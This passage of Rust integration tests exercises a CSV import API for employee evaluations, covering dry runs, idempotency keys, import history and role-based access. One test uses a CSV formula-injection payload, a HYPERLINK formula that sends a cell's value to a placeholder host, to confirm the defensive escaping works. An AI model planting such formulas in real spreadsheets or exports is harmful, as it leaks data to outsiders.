        page = next.json();
        pages += 1;
    }
    assert!(pages >= 2, "{pages} pages");
    assert_eq!(
        rows,
        (5..205).collect::<Vec<u64>>(),
        "every evaluatee once, in file order"
    );
    let one = get(&app, &format!("/api/dry-runs/{id}?row=42"), &admin)
        .await
        .json();
    assert_eq!(one["evaluatees"].as_array().map(Vec::len), Some(1));
    assert_eq!(one["evaluatees"][0]["row"], 42);

    // Nobody else reads it; a plan pushed out by newer ones is gone.
    let other = get(&app, &format!("/api/dry-runs/{id}"), &leader).await;
    assert_eq!(other.status, StatusCode::NOT_FOUND);
    assert_eq!(other.json()["error"], "dry_run_expired");
    for _ in 0..2 {
        import(&app, &admin, "2026-h1", &second, None, true).await;
    }
    let gone = get(&app, &format!("/api/dry-runs/{id}"), &admin).await;
    assert_eq!(gone.status, StatusCode::NOT_FOUND, "two plans per tenant");
    assert!(
        gone.json()["message"]
            .as_str()
            .unwrap_or_default()
            .contains("もう一度ドライラン")
    );
}

/// A stored text that looks like a formula is downloaded protected, and the
/// untouched template re-imports to exactly what is stored.
#[tokio::test]
async fn templates_are_formula_protected_and_reimport_unchanged() {
    let app = server("formula", Config::default());
    let admin = sign_in(&app, DEMO_ADMIN).await;
    let items = ["goal1_comment", "score_total"];
    let original = template(&app, &admin, &items).await;
    let hyperlink = "=HYPERLINK(\"http://x/?\"&A1,\"詳細\")";
    let quoted = format!("\"{}\"", hyperlink.replace('"', "\"\""));
    let mut edited = with_row(&original, "E0002", &format!("鈴木 太郎,E0002,{quoted},-5"));
    edited = with_row(&edited, "E0003", "x,E0003,'=already,7");
    edited = with_row(&edited, "E0004", "x,E0004,@SUM(A1),");
    // The score's minimum is 0: -5 is refused as a number, never as a formula.
    let applied = import(&app, &admin, "2026-h1", &edited, Some("formula-1"), false).await;
    let record = applied.json();
    assert_eq!(record["status"], "completed_with_errors", "{record}");
    assert_eq!(record["errors"][0]["code"], "number.below_min");

    let fixed = with_row(&edited, "E0002", &format!("鈴木 太郎,E0002,{quoted},5"));
    let applied = import(&app, &admin, "2026-h1", &fixed, Some("formula-2"), false).await;
    assert_eq!(applied.json()["status"], "completed", "{}", applied.json());
    let downloaded = template(&app, &admin, &items).await;
    let line = |key: &str| {
        downloaded
            .split("\r\n")
            .find(|l| l.split(',').nth(1) == Some(key))
            .unwrap_or_default()
            .to_owned()
    };
    assert_eq!(
        line("E0002"),
        "鈴木 太郎,E0002,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"詳細\"\")\",5"
    );
    assert!(
        line("E0003").ends_with(",E0003,'=already,7"),
        "{}",
        line("E0003")
    );
    assert!(
        line("E0004").ends_with(",E0004,'@SUM(A1),"),
        "{}",
        line("E0004")
    );

    let plan = import(&app, &admin, "2026-h1", &downloaded, None, true)
        .await
        .json();
    assert_eq!(plan["counts"]["unchanged"], 200, "{}", plan["counts"]);
    assert_eq!(plan["cells"]["update"], 0);
}

/// A client follows its own import by the Idempotency-Key it chose.
#[tokio::test]
async fn an_import_is_followed_by_its_key() {
    let app = server("by-key", Config::default());
    let admin = sign_in(&app, DEMO_ADMIN).await;
    let leader = sign_in(&app, DEMO_LEADER).await;
    let missing = get(&app, "/api/imports/by-key/not-yet", &admin).await;
    assert_eq!(missing.status, StatusCode::NOT_FOUND);
    let original = template(&app, &admin, &["score_total"]).await;
    let edited = with_row(&original, "E0002", "x,E0002,42");
    let applied = import(&app, &admin, "2026-h1", &edited, Some("follow-me"), false).await;
    assert_eq!(applied.status, StatusCode::CREATED);
    let id = applied.json()["id"].clone();
    let followed = get(&app, "/api/imports/by-key/follow-me", &admin).await;
    assert_eq!(followed.status, StatusCode::OK);
    let followed = followed.json();
    assert_eq!(followed["import"]["id"], id);
    assert_eq!(followed["import"]["status"], "completed");
    assert_eq!(followed["progress"]["done"], followed["progress"]["total"]);
    // Somebody who may not see the import learns nothing of the key.
    let other = get(&app, "/api/imports/by-key/follow-me", &leader).await;
    assert_eq!(other.status, StatusCode::NOT_FOUND);
    let bad = get(
        &app,
        &format!("/api/imports/by-key/{}", "k".repeat(300)),
        &admin,
    )
    .await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn the_history_keeps_file_names_counts_and_who_may_open() {
    let app = server("history-lines", Config::default());
    let admin = sign_in(&app, DEMO_ADMIN).await;
    let leader = sign_in(&app, DEMO_LEADER).await;
    let original = template(&app, &admin, &["score_total"]).await;
    let mut edited = with_row(&original, "E0002", "x,E0002,80");
    edited.push_str("ghost,E9999,1\r\n");
    // The browser's name, percent-encoded, with the path some browsers add.
    let request = Request::post(
        "/api/periods/2026-h1/sheets/performance/imports?file_name=C%3A%5Cfakepath%5C%E8%A9%95%E4%BE%A1%201%E6%9C%88.csv",
    )
    .header(COOKIE, &admin)
    .header(CONTENT_TYPE, "text/csv")
    .header("idempotency-key", "named")
    .body(Body::from(edited.clone()))
    .expect("request");
    let record = send(&app, request).await;
    assert_eq!(record.status, StatusCode::CREATED);
    assert_eq!(record.json()["file_name"], "評価 1月.csv");
    // Without a name: none kept.
    import(&app, &admin, "2026-h1", &original, Some("unnamed"), false).await;
    // A name over 255 characters is refused before anything is read.
    let long = "a".repeat(256);
    let request = Request::post(format!(
        "/api/periods/2026-h1/sheets/performance/imports?file_name={long}.csv"
    ))
    .header(COOKIE, &admin)
    .header(CONTENT_TYPE, "text/csv")
    .header("idempotency-key", "long")
    .body(Body::from(original.clone()))
    .expect("request");
    let refused = send(&app, request).await;
    assert_eq!(refused.status, StatusCode::BAD_REQUEST);
    assert_eq!(refused.json()["error"], "file_name_too_long");

    let lines = get(&app, "/api/imports", &admin).await.json();
    assert_eq!(lines.as_array().map(Vec::len), Some(2), "{lines}");
    let (unnamed, named) = (&lines[0], &lines[1]);
    assert!(unnamed["file_name"].is_null(), "{unnamed}");
    assert_eq!(named["file_name"], "評価 1月.csv");
    assert_eq!(named["counts"]["updated"], 1, "{named}");
    assert_eq!(named["counts"]["failed"], 1, "{named}");
    assert_eq!(named["error_count"], 1, "{named}");
    assert_eq!(named["cells"]["update"], 1, "{named}");
    assert_eq!(named["cells"]["delete"], 0, "{named}");
    assert!(named["reverted_at"].is_null());
    assert_eq!(named["may_open"], true, "the admin may open every import");
    let for_leader = get(&app, "/api/imports", &leader).await.json();
    assert_eq!(
        for_leader[1]["may_open"], false,
        "a leader may not open the admin's import: {for_leader}"
    );
    // The cells it changed, with the evaluatee's name; only for those who
    // may open it.
    let named_id = named["id"].as_str().unwrap_or_default().to_owned();
    let changes = get(&app, &format!("/api/imports/{named_id}/changes"), &admin).await;
    assert_eq!(changes.status, StatusCode::OK);
    let changes = changes.json();
    assert_eq!(
        changes["evaluatees"].as_array().map(Vec::len),
        Some(1),
        "{changes}"
    );
    assert_eq!(changes["evaluatees"][0]["name"], "鈴木 太郎", "{changes}");
    let cell = &changes["evaluatees"][0]["changes"][0];
    assert_eq!(cell["item"], "score_total");
    assert_eq!(cell["action"], "update");
    assert_eq!(cell["new"], "80");
    assert!(changes["next_after"].is_null());
    let details = get(&app, &format!("/api/imports/{named_id}"), &admin)
        .await
        .json();
    assert_eq!(details["period_name"], "2026年度上期", "{details}");
    assert_eq!(details["sheet_name"], "業績評価シート", "{details}");
    assert_eq!(details["import"]["file_name"], "評価 1月.csv");
    assert_eq!(
        get(&app, &format!("/api/imports/{named_id}/changes"), &leader)
            .await
            .status,
        StatusCode::FORBIDDEN
    );
    // A reverted import says so in the list (the newest: nothing changed
    // its cells since).
    let id = unnamed["id"].as_str().unwrap_or_default().to_owned();
    let reverted = send(
        &app,
        Request::post(format!("/api/imports/{id}/revert"))
            .header(COOKIE, &admin)
            .body(Body::empty())
            .expect("request"),
    )
    .await;
    assert_eq!(reverted.status, StatusCode::OK, "{:?}", reverted.body);
    let lines = get(&app, "/api/imports", &admin).await.json();
    assert!(lines[0]["reverted_at"].is_u64(), "{}", lines[0]);
    assert!(lines[1]["reverted_at"].is_null(), "{}", lines[1]);
}

#[tokio::test]
async fn a_demoted_leader_no_longer_opens_their_past_imports() {
    let app = server("demoted", Config::default());
    let admin = sign_in(&app, DEMO_ADMIN).await;
    let leader = sign_in(&app, DEMO_LEADER).await;
    let mut file = template(&app, &leader, &["score_total"]).await;
    file.push_str("誰か,E9999,1\r\n");
    let imported = import(&app, &leader, "2026-h1", &file, Some("mine"), false)
        .await
        .json();
    let id = imported["id"].as_str().unwrap_or_default().to_owned();
    assert!(!id.is_empty(), "{imported}");
    let details = format!("/api/imports/{id}");
    let error_file = format!("/api/imports/{id}/error-file");
    assert_eq!(get(&app, &details, &leader).await.status, StatusCode::OK);
    assert_eq!(get(&app, &error_file, &leader).await.status, StatusCode::OK);
    // Demoted to a plain member (roles, and so the session, change), the
    // same person signs in again.
    let demoted = send(
        &app,
        Request::put("/api/accounts/leader/roles")
            .header(COOKIE, &admin)
            .header(CONTENT_TYPE, "application/json")
            .body(Body::from("{}"))
            .expect("request"),
    )
    .await;
    assert_eq!(demoted.status, StatusCode::OK);
    let member = sign_in(&app, DEMO_LEADER).await;
    for path in [&details, &error_file, &format!("{details}/changes")] {
        let refused = get(&app, path, &member).await;
        assert_eq!(refused.status, StatusCode::FORBIDDEN, "{path}");
    }
    let history = get(&app, "/api/imports", &member).await.json();
    let line = history
        .as_array()
        .into_iter()
        .flatten()
        .find(|line| line["id"] == id.as_str())
        .cloned()
        .unwrap_or_default();
    assert_eq!(line["may_open"], false, "{history}");
    // The evaluation admin still opens it.
    assert_eq!(get(&app, &error_file, &admin).await.status, StatusCode::OK);
}
